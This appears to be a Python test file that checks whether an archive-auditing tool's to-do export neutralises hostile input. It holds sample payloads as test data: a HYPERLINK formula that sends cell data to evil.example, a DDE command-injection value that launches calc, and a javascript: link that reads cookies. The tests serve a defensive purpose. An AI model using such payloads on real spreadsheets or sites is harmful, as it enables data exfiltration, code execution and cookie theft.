"""Issue 14, item 10: the to-do list that `auditor actions` writes is hostile input's last stop before a spreadsheet
or a Markdown viewer: formula cells are quoted as the report's CSV quotes them, and only http(s) links are links."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from auditor.store.database import Store
from tests.history import decide, post_id, scan_into, write_archive
from tests.hostile import bounded

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1, \"What a shitty day\")"


def _store(tmp_path: Path) -> Path:
    folder = write_archive(tmp_path / "archive", {"103": FORMULA})
    outbox = json.loads((folder / "outbox.json").read_text(encoding="utf-8"))
    outbox["orderedItems"][0]["object"]["url"] = "javascript:alert(document.cookie)"  # a link that runs code
    (folder / "outbox.json").write_text(json.dumps(outbox), encoding="utf-8")
    path = tmp_path / "store.sqlite"
    with Store.open(path) as store:
        scan_into(store, folder)
        decide(store, [(post_id("103"), "PROF-001", "delete", "@SUM(1+1)*cmd|' /C calc'!A0")])
    return path


def test_the_csv_to_do_list_quotes_formulas(tmp_path: Path) -> None:
    run = bounded.run(["actions", "--format", "csv", "--store", str(_store(tmp_path))])
    assert run.code == 0, run.output
    [row] = list(csv.DictReader(io.StringIO(run.stdout)))
    assert row["text"] == "'" + FORMULA and row["note"].startswith("'@SUM")
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_the_markdown_to_do_list_links_only_http(tmp_path: Path) -> None:
    run = bounded.run(["actions", "--store", str(_store(tmp_path))])
    assert run.code == 0 and "**Delete** (1)" in run.stdout, run.output
    assert "javascript:" not in run.stdout and "- [ ] 2024-03-01 " in run.stdout
